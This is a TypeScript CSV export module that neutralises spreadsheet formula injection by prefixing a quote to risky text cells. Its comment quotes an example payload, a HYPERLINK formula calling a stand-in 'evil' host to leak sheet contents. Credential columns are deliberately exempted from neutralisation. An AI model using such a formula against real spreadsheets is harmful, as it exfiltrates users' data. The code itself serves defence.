// A small CSV writer for exports that stream: one line at a time, RFC 4180 (CRLF line ends; a field with
// a quote, comma, CR or LF is quoted and its quotes doubled), UTF-8.
//
// Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a tab, CR or NUL first) as a
// formula, so a name like `=HYPERLINK("http://evil/?"&A1)` could leak the sheet when the file is opened.
// Such text cells get a leading `'` (OWASP ASVS 1.2.10, CWE-1236): the spreadsheet shows the text and
// runs nothing. Credential cells (usernames, passwords) are written as they are instead: a tool that
// imports them must log in with exactly those characters, and one `'` more would lock it out.

/** What a column yields for a row: text (neutralised unless the column is verbatim), or a value we format. */
export type Cell = string | number | boolean | Date | null;

export interface CsvColumn<Row> {
  header: string;
  value: (row: Row) => Cell;
  /** Written exactly as stored, never prefixed: credentials that a tool must use character for character. */
  verbatim?: boolean;
}

/** Excel reads a file as UTF-8 only after this byte order mark; importers that match headers may not skip it. */
export const UTF8_BOM = '\uFEFF';

const FORMULA_START = /^[=+\-@\t\r\0]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** The text a spreadsheet will show as text: a leading `'` when it would start a formula. */
export function neutralise(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One RFC 4180 field. */
export function field(text: string): string {
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

function format(cell: Cell, verbatim: boolean): string {
  if (cell === null) return '';
  if (typeof cell === 'string') return verbatim ? cell : neutralise(cell);
  if (cell instanceof Date) return cell.toISOString();
  return String(cell);
}

/** One record, CRLF-terminated. */
export function csvLine(cells: string[]): string {
  return `${cells.map(field).join(',')}\r\n`;
}

/** The header line of `columns` (headers are ours, never neutralised). */
export function csvHeader<Row>(columns: readonly CsvColumn<Row>[]): string {
  return csvLine(columns.map((c) => c.header));
}

/** The record of `row` under `columns`. */
export function csvRecord<Row>(columns: readonly CsvColumn<Row>[], row: Row): string {
  return csvLine(columns.map((c) => format(c.value(row), c.verbatim === true)));
}
